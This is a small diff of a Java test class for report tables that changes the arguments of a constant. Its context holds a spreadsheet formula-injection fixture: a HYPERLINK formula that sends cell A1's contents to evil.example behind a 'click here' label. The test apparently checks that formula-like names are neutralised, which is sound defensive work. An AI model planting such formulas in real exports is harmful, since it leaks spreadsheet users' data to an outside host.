@@ -25,7 +25,7 @@ class ReportTablesTest {
 
     private static final String FORMULA = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Bấm vào đây\")";
 
-    private static final AdministrativeFigures NONE = AdministrativeFigures.of(0, 0, 0);
+    private static final AdministrativeFigures NONE = AdministrativeFigures.of(0, 0, 0, 0, 0, 0);
 
     /** Child units named like formulas (the names come from the deployment's reference data). */
     private static Children children() {
